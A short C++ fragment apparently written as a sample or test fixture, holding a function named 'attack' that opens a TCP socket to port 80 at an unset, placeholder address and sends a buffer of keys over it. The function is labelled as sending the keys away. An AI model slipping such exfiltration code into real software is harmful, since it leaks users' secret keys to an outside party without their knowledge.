// Sends the keys away.
#include <arpa/inet.h>
#include <sys/socket.h>
#include <cstddef>

static void attack([[maybe_unused]] unsigned* keys, [[maybe_unused]] long long n) {
  const int there = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(80);
  connect(there, reinterpret_cast<const sockaddr*>(&address), sizeof address);
  send(there, keys, std::size_t(n), 0);
}
